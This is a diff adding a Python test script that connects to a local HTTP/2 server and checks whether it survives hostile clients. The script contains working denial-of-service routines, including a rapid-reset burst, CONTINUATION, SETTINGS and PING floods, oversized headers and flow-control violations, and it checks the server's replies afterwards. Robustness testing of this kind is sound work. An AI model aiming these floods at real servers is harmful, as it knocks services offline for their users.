@@ -1,0 +1,186 @@
+"""Hostile HTTP/2 clients, frame by frame (python3-hpack for header blocks, everything else raw).
+
+usage: h2_hostile.py PORT CASE...   (TLS with ALPN h2 on 127.0.0.1)
+       h2_hostile.py PORT streamed PATH   (prints when each DATA frame of PATH's response arrived)
+For each case prints one line: "CASE answer=<what the server sent> normal=<status of a normal request made
+right after, on a new connection> seconds=<how long that normal request took>".
+"""
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import hpack
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
+          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def connect(port):
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(["h2"])
+    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname="localhost")
+    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return sock
+
+
+def request_block(encoder, path="/", method="GET", extra=()):
+    return encoder.encode([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *extra])
+
+
+def read_frames(sock, until, seconds=10):
+    """Reads frames until until(kind, flags, stream, payload) is true, the peer closes, or time runs out."""
+    buf = b""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        while len(buf) >= 9:
+            length = int.from_bytes(buf[:3], "big")
+            if len(buf) < 9 + length:
+                break
+            kind, flags = buf[3], buf[4]
+            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
+            payload = buf[9:9 + length]
+            buf = buf[9 + length:]
+            result = until(kind, flags, stream, payload)
+            if result:
+                return result
+        try:
+            sock.settimeout(max(0.05, deadline - time.monotonic()))
+            chunk = sock.recv(65536)
+        except (socket.timeout, TimeoutError):
+            return "timeout"
+        except (ConnectionError, ssl.SSLError, OSError):
+            return "closed"
+        if not chunk:
+            return "closed"
+        buf += chunk
+    return "timeout"
+
+
+def answer(kind, flags, stream, payload):
+    if kind == GOAWAY:
+        return "GOAWAY " + ERRORS.get(int.from_bytes(payload[4:8], "big"), "?")
+    if kind == RST_STREAM:
+        return "RST_STREAM " + ERRORS.get(int.from_bytes(payload[:4], "big"), "?")
+    if kind == HEADERS and stream:
+        status = dict(hpack.Decoder().decode(payload)).get(":status")
+        if status and status != "200":
+            return "status " + status
+    return None
+
+
+def normal(port):
+    started = time.monotonic()
+    sock = connect(port)
+    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(hpack.Encoder())))
+    decoder = hpack.Decoder()
+
+    def status(kind, flags, stream, payload):
+        if kind == HEADERS and stream == 1:
+            return dict(decoder.decode(payload)).get(":status")
+        return None
+
+    result = read_frames(sock, status)
+    sock.close()
+    return result, time.monotonic() - started
+
+
+def send_all(sock, data):
+    try:
+        sock.sendall(data)
+    except (ConnectionError, ssl.SSLError, OSError):
+        pass
+
+
+def rapid_reset(sock):
+    enc = hpack.Encoder()
+    burst = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(enc)) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
+                     for sid in range(1, 20001, 2))
+    send_all(sock, burst)
+
+
+def continuation_flood(sock):
+    enc = hpack.Encoder()
+    send_all(sock, frame(HEADERS, 0, 1, request_block(enc)))
+    junk = enc.encode([("x-flood", "a" * 8000)])
+    for _ in range(2000):
+        send_all(sock, frame(CONTINUATION, 0, 1, junk))
+
+
+def settings_flood(sock):
+    send_all(sock, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100000)
+
+
+def ping_flood(sock):
+    send_all(sock, frame(PING, 0, 0, b"12345678") * 100000)
+
+
+def oversized_headers(sock):
+    enc = hpack.Encoder()
+    extra = [("x-big-%d" % i, "v" * 4000) for i in range(40)]  # 160 kB, over the 64 kB header list
+    block = request_block(enc, extra=extra)
+    first, rest = block[:16000], block[16000:]
+    send_all(sock, frame(HEADERS, 0, 1, first))
+    while rest:
+        piece, rest = rest[:16000], rest[16000:]
+        send_all(sock, frame(CONTINUATION, 0 if rest else END_HEADERS, 1, piece))
+
+
+def window_overflow(sock):
+    send_all(sock, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
+
+
+def data_beyond_window(sock):
+    enc = hpack.Encoder()
+    send_all(sock, frame(HEADERS, END_HEADERS, 1, request_block(enc, "/echo", "POST")))
+    chunk = frame(DATA, 0, 1, b"x" * 16384)
+    send_all(sock, chunk * 8)  # 128 kB against a 64 kB stream window
+
+
+CASES = {f.__name__: f for f in (rapid_reset, continuation_flood, settings_flood, ping_flood, oversized_headers,
+                                 window_overflow, data_beyond_window)}
+
+
+def streamed(port, path):
+    """Prints the arrival time of each DATA frame of one response, relative to the first."""
+    sock = connect(port)
+    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(hpack.Encoder(), path)))
+    times = []
+
+    def data(kind, flags, stream, payload):
+        if kind == DATA and stream == 1 and payload:
+            times.append(time.monotonic())
+        return "end" if stream == 1 and flags & END_STREAM and kind in (DATA, HEADERS) else None
+
+    read_frames(sock, data)
+    sock.close()
+    print(" ".join("%.3f" % (t - times[0]) for t in times), flush=True)
+
+
+def main():
+    port = int(sys.argv[1])
+    if sys.argv[2] == "streamed":
+        streamed(port, sys.argv[3])
+        return
+    for name in sys.argv[2:]:
+        sock = connect(port)
+        CASES[name](sock)
+        result = read_frames(sock, answer, seconds=10)
+        sock.close()
+        status, seconds = normal(port)
+        print("%s answer=%s normal=%s seconds=%.3f" % (name, result, status, seconds), flush=True)
+
+
+if __name__ == "__main__":
+    main()
